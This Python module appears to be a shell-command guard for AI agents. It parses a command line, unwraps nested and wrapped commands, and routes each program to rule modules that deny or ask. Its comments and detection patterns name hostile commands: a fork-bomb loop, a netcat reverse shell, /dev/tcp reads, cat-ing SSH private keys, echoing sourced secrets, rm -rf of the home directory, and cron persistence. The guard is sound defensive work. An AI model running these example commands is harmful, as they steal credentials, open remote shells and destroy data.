"""Judge a whole shell command line: parse it, unwrap every simple command to the
program that really runs, and ask each rule module about it. The only guard module that
knows all rule modules; none of them imports it back. A rule module is imported when a
call needs it (guard.programs says which), not with this module: the hook is a hot path."""

from __future__ import annotations

from agentops_os.guard import values
from agentops_os.guard.argv import DB_CLIENTS, EXEC_SINKS, FETCHERS, LOADER_VARIABLES, READERS, search
from agentops_os.guard.programs import CONTAINER_CLIS, PRIVILEGE, RULE_MODULES, SECRET_CLIS, SENDERS
from agentops_os.guard.shell import Command, ShellSyntaxError, commands_of, tokenize
from agentops_os.guard.unwrap import Call, calls_of
from agentops_os.guard.userrules import user_rules
from agentops_os.guard.verdict import Verdict, worst

TYPE_CHECKING = False  # typing stays off the hook path
if TYPE_CHECKING:
    from collections.abc import Callable
    from types import ModuleType

    from agentops_os.guard.functions import Functions
    from agentops_os.guard.scope import Scope
    from agentops_os.guard.shell import Token

# `while true; do (yes > /dev/null &); done`: a loop that never ends and backgrounds a
# process on every turn (`&` alone, not `&&`, `&>` or `>&`).
_FORK_LOOP = (
    r"(?s)\b(?:while\s+(?:true|:|\[\s*1\s*\])|until\s+false|for\s*\(\(\s*;\s*;\s*\)\))\s*;?\s*do\b"
    r"(?:(?!\bdone\b).)*?(?<![&>|])&(?![&>])(?:(?!\bdone\b).)*?\bdone\b"
)

# Words of a line that rules_persist.line_persistence reads as a whole (lowercased).
_PERSIST_MARKS = ("done", "while", "setinterval", "loop", "scheduledtask", "currentversion", "new-service",
                  "wmi")


def judge_command(judge: Scope, command: str) -> Verdict:
    """The strongest verdict over every command `command` would run.

    User rules: deny/ask rules match anywhere in the line; an allow rule covers one whole
    simple command (`^npm test$` allows `npm test`, and `npm test && rm -rf ~` still has
    its `rm` judged). Redirections are judged even for allowed commands.
    """
    judge.inner = lambda text: judge_command(judge, text)
    whole = user_rules(judge, command)
    verdicts: list[Verdict | None] = [whole] if whole is not None and whole.decision != "allow" else []
    if "&" in command and "do" in command and not search(r"\b(?:wait|break|exit)\b", command) and search(
        _FORK_LOOP, command
    ):
        verdict = judge.verdict("fork-bomb", "deny", "starts a background process in an endless loop")
        if verdict:
            return verdict
    lowered = command.lower()
    if any(mark in lowered for mark in _PERSIST_MARKS):  # a detached network loop, a Windows scheduler
        verdicts.append(_rules("rules_persist").line_persistence(judge, command))
    start, assigned = judge.cwd, judge.assigned
    try:
        tokens = tokenize(command)
        commands = commands_of(tokens)
        line = _Line(verdicts, _functions(command, tokens))
        if line.functions is not None:
            bomb = line.functions.fork_bomb()
            if bomb is not None:
                verdict = judge.verdict("fork-bomb", "deny", f"runs a fork bomb (the function {bomb[:40]!r})")
                if verdict:
                    return verdict
            line.skipped = _called_bodies(line.functions, commands)
        counts = values.assignment_counts(commands)
        judge.assigned = assigned | set(counts)  # their values are not the hook's
        rewritten = values.substitute(judge, commands, counts)
        steps = [(cmd, calls_of(cmd)) for cmd in commands]
    except ShellSyntaxError as exc:
        judge.assigned = assigned
        return worst(
            [
                *verdicts,
                judge.verdict(
                    "unparseable", "ask", f"the guard cannot parse this command ({exc}); please confirm"
                ),
            ]
        )
    try:
        allowed_any = _judge_steps(judge, steps, line)
        if line.skipped:  # a body whose function was never expanded (too deep) is judged alone
            alone = [s for s in steps if not line.skipped.get(id(s[0]), line.expanded) <= line.expanded]
            line.skipped = {}
            allowed_any = _judge_steps(judge, alone, line) or allowed_any
    finally:
        judge.cwd, judge.assigned = start, assigned
    verdict = worst(verdicts)
    if verdict.decision != "deny":  # a deny stands whatever a second parser reads
        from agentops_os.guard import tsparse  # a second, real bash parser: it must see the same programs

        verdict = worst([verdict, tsparse.cross_check(judge, command, commands, rewritten)])
    if verdict.decision == "allow" and allowed_any and whole is not None:
        return whole
    return verdict


class _Line:
    """What judging one command line collects: its verdicts, the functions it defines,
    the function bodies judged at their calls rather than alone, and the calls being
    expanded (a function calling itself is not expanded again)."""

    def __init__(self, verdicts: list[Verdict | None], functions: Functions | None) -> None:
        self.verdicts = verdicts
        self.functions = functions
        self.skipped: dict[int, set[str]] = {}  # id of a command -> the functions whose body it is
        self.expanded: set[str] = set()
        self.expanding: list[str] = []
        self.budget = _FUNCTION_BUDGET


_FUNCTION_BUDGET = 32  # nested function calls expanded per line (bodies calling bodies)


def _judge_steps(judge: Scope, steps: list[tuple[Command, list[Call]]], line: _Line) -> bool:
    """Judge each simple command and the calls it makes, in order (a `cd` moves later
    relative paths); True when a user allow rule covered one of them."""
    verdicts = line.verdicts
    allowed_any = False
    for cmd, calls in steps:
        if id(cmd) in line.skipped:
            continue
        if cmd.redirects:
            verdicts.extend(_redirects(judge, cmd))
        allow = _allowed(judge, cmd)
        allowed_any = allowed_any or allow is not None
        judged = {id(cmd)}
        if allow is None and _envcommands_mentioned(cmd):
            verdicts.append(_rules("envcommands").judge_assignments(judge, cmd))
        for call in calls:
            if allow is None:
                verdicts.extend(_judge_in(judge, call))
                inner = call.command  # `sh -c 'cat < /dev/tcp/h/1'`: the inner line's redirections
                if id(inner) not in judged:
                    judged.add(id(inner))
                    if inner.redirects and not _ELSEWHERE & set(call.via):
                        verdicts.extend(_redirects(judge, inner))
                    if _envcommands_mentioned(inner):  # `sh -c "PAGER='…' man ls"`
                        verdicts.append(_rules("envcommands").judge_assignments(judge, inner))
                if line.functions is not None and call.name in line.functions.bodies:
                    _function_call(judge, call, line)
            clone = call.name in ("git", "gh") and "clone" in call.argv  # fills a directory from another host
            made = judge.downloaded or judge.git_line.get("written")
            if call.name in _MAKES_FILES or clone or call.command.redirects or made:
                planted = _rules("rules_chain").remember(judge, call)  # a file a tool runs later
                if allow is None:
                    verdicts.append(planted)
            if call.name in (
                "cd",
                "pushd",
                "popd",
            ):  # later relative paths are relative to the new directory
                judge.cwd = _cd(judge, call)
    return allowed_any


def _redirects(judge: Scope, cmd: Command) -> list[Verdict | None]:
    """The files `cmd`'s redirections read and write; a written name computed at run time
    in a known directory (`>> /var/spool/cron/crontabs/$USER`) as that directory's files."""
    verdicts = _rules("rules_files").redirects(judge, cmd)
    if any(r.target is not None and r.target.dynamic for r in cmd.redirects):
        verdicts.extend(_rules("computedwrite").redirect_writes(judge, cmd))
    return verdicts  # type: ignore[no-any-return]


def _envcommands_mentioned(cmd: Command) -> bool:
    """Whether `cmd` may assign a variable whose value a program runs (the module that
    knows them is loaded only then)."""
    return any("=" in w.text and w.text[:1].isupper() for w in cmd.words) and bool(
        _rules("envcommands").mentions(cmd)
    )


def _functions(source: str, tokens: list[Token]) -> Functions | None:
    """The functions the line defines (None when it defines none)."""
    if "function" not in source and "()" not in source.replace(" ", "").replace("\t", ""):
        return None
    found = _rules("functions").Functions(tokens)
    return found if found else None


def _called_bodies(functions: Functions, commands: list[Command]) -> dict[int, set[str]]:
    """The line's own commands that are the body of a function the line calls: they are
    judged at each call, with its arguments, instead of alone."""
    called = set()
    for cmd in commands:
        if functions.is_definition(cmd):
            continue
        try:
            names = {c.name for c in calls_of(cmd) if not {"command", "builtin"} & set(c.via)}
        except ShellSyntaxError:
            continue
        called |= names & set(functions.bodies)
    owners = functions.owners(called) if called else {}
    out: dict[int, set[str]] = {}
    for cmd in commands:
        for word in cmd.words:
            if id(word) in owners:
                out.setdefault(id(cmd), set()).update(owners[id(word)])
    return out


def _function_call(judge: Scope, call: Call, line: _Line) -> None:
    """`gp --force origin main` of `gp(){ command git push "$@"; }`: each body of the
    function judged with the call's arguments as `$1`… and `"$@"`. `command gp` and
    `builtin gp` run no function; a function calling itself is not expanded again."""
    functions = line.functions
    if functions is None or {"command", "builtin"} & set(call.via) or functions.is_definition(call.command):
        return
    if call.name in line.expanding or (line.expanding and line.budget <= 0):
        return
    if line.expanding:
        line.budget -= 1
    line.expanding.append(call.name)
    line.expanded.add(call.name)
    before = len(line.verdicts)
    try:
        for body in functions.bound(call.name, call.args):
            _judge_steps(judge, [(cmd, calls_of(cmd)) for cmd in body], line)
    except ShellSyntaxError as exc:
        line.verdicts.append(
            judge.verdict("unparseable", "ask", f"the guard cannot read the function {call.name} ({exc})")
        )
    finally:
        line.expanding.pop()
    line.verdicts[before:] = [
        v if v is None or v.reason.startswith("the function") else
        Verdict(v.decision, f"the function {call.name} runs: {v.reason}", v.rule)
        for v in line.verdicts[before:]
    ]


def _allowed(judge: Scope, cmd: Command) -> Verdict | None:
    """The user's allow rule matching this whole simple command, if any (and no deny/ask
    rule matches it)."""
    if not judge.policy.rules or not cmd.words:
        return None
    verdict = user_rules(judge, " ".join(w.text for w in cmd.words))
    return verdict if verdict is not None and verdict.decision == "allow" else None


# Rules about this machine's repository boundary: on the far side of `ssh host '...'`
# there is no repository, and its /opt or $HOME are another machine's, so they do not
# apply there (the rules about homes, roots, disks, history and secrets still do).
_LOCAL_ONLY = frozenset({"write-outside-repo", "unresolved-command"})
# Wrappers whose command runs on another machine or in a container: its redirections name
# files over there.
_ELSEWHERE = frozenset({"ssh", "docker", "podman", "nerdctl", "kubectl", "oc"})
# Calls that make a file a later command of the line may run (rules_chain.remember), and
# the variables that load a library into every program (rules_chain.runs_download).
_MAKES_FILES = FETCHERS | {"ln", "tee", "tar", "gtar", "bsdtar", "unzip", "7z", "7za", "7zr", "7zz"}
# Programs that write files their operands name (computedwrite).
_COPIERS = frozenset({"tee", "cp", "mv", "install", "ln"})
# Programs with options that run a command on this machine (sshlocal.PROGRAMS).
_SSH_CLIENTS = frozenset({"ssh", "autossh", "scp", "sftp", "sshfs", "rsync", "mosh"})
# Text tools that write what their script names, empty their files, or write without end (texttools).
_TEXT_TOOLS = frozenset({"sed", "gsed", "tee", "awk", "gawk", "perl", "find", "yes", "cat", "dd", "pv", "tr",
                         "base64", "xxd", "od", "gzip", "rev", "fallocate"})


def _judge_in(judge: Scope, call: Call) -> list[Verdict | None]:
    """Judge one call, in the directory `env -C`/`sudo -D` gave it."""
    if "ssh" in call.via:
        return [v for v in _judge_local(judge, call) if v is None or v.rule not in _LOCAL_ONLY]
    return _judge_local(judge, call)


def _judge_local(judge: Scope, call: Call) -> list[Verdict | None]:
    if call.chdir is None:
        return _judge_call(judge, call)
    saved = judge.cwd
    judge.cwd = judge.resolve_word(call.chdir)
    try:
        return _judge_call(judge, call)
    finally:
        judge.cwd = saved


def _judge_call(judge: Scope, call: Call) -> list[Verdict | None]:
    verdicts: list[Verdict | None] = []
    rule = rule_for(call.name)
    if rule is not None:
        verdicts.append(rule(judge, call))
    if call.name in ("source", ".") or "sourced-secrets" in judge.git_line:  # `source .env && echo $KEY`
        verdicts.append(_rules("sourcedenv").judge_sourced(judge, call))
    words = call.command.words
    if call.dynamic or (words and words[0].dynamic):
        verdicts.append(_rules("rules_code").dynamic_name(judge, call))
    if judge.downloaded or judge.git_line.get("written") or any(
        w.text.startswith(LOADER_VARIABLES) for w in call.command.words
    ):
        verdicts.append(_rules("rules_chain").runs_download(judge, call))
    via = set(call.via)
    if call.name in PRIVILEGE or via & PRIVILEGE or via & CONTAINER_CLIS:
        verdicts.append(_rules("rules_host").privileged(judge, call))
    if via & {"npx", "pnpx", "bunx"}:  # `npx github:user/repo`: run from a repository, not the registry
        verdicts.append(_rules("rules_origin").runner_origin(judge, call))
    if call.name in SENDERS:  # `nc -e /bin/sh host 4444`
        verdicts.append(_rules("revshell").network_shell(judge, call))
    if call.name in SENDERS and (call.upstream or any(w.subs for w in call.args)):
        verdicts.append(_rules("rules_host").exfiltration(judge, call))
    if call.name in SECRET_CLIS:
        verdicts.append(_rules("rules_vaults").secret_store(judge, call))
    if call.name in EXEC_SINKS:
        verdicts.append(_rules("rules_code").pipe_to_shell(judge, call))
        if call.command.redirects:
            verdicts.append(_rules("rules_code").stdin_script(judge, call))
        if call.command.fed_by is not None:  # `tee >(sh) <<< '…'`: what tee writes there is code
            verdicts.append(_rules("procsub").fed_code(judge, call))
    if call.name in _COPIERS and any(w.dynamic for w in call.args):  # `tee -a /etc/cron.d/$n`
        verdicts.extend(_rules("computedwrite").operand_writes(judge, call.name, call.args))
    if call.name in _TEXT_TOOLS:  # `sed 'w ~/.bashrc'`, `sed -i d src/*.py`, `yes > f`
        verdicts.append(_rules("texttools").judge_call(judge, call))
    if call.name in _SSH_CLIENTS:  # `ssh -o ProxyCommand=…`, `rsync -e CMD`: run here
        verdicts.append(_rules("sshlocal").local_commands(judge, call))
    if call.name in READERS:
        verdicts.append(_rules("rules_files").reads(judge, call))
    if call.name in DB_CLIENTS:
        verdicts.append(_rules("rules_infra").sql(judge, call))
        verdicts.append(_rules("dbshell").escapes(judge, call))  # `psql -c '\! …'`
    if call.find_selected:  # `find ~/.ssh -name id_rsa -exec cat {} \;`: judged on what `{}` can be
        for concrete in _rules("findexec").concrete_calls(call):
            verdicts.extend(_judge_call(judge, concrete))
            if concrete.command.redirects and not _ELSEWHERE & set(call.via):
                verdicts.extend(_redirects(judge, concrete.command))
    return verdicts


def rule_for(program: str) -> Callable[[Scope, Call], Verdict | None] | None:
    """The rule that judges `program`'s own arguments, if a rule module has one."""
    module = RULE_MODULES.get(program)
    return None if module is None else _rules(module).RULES[program]  # type: ignore[no-any-return]


def _rules(name: str) -> ModuleType:
    """A rule module of this package, imported on first need (`__import__` needs no
    importlib on the hook path)."""
    return __import__(f"agentops_os.guard.{name}", fromlist=["RULES"])


def _cd(judge: Scope, call: Call) -> str | None:
    import os

    if call.name == "popd":
        return None  # the directory stack is not followed
    args = [w for w in call.args if not (w.text.startswith("-") and w.text != "-")]
    if not args:
        return judge.home
    word = args[0]
    if word.text == "-" or word.text.startswith(("+", "-")):
        return None
    # With CDPATH set, `cd name` may go to any CDPATH entry's `name`: unknown.
    if ("CDPATH" in judge.assigned or os.environ.get("CDPATH")) and not word.text.startswith(("/", ".", "~")):
        return None
    return judge.resolve_word(word)
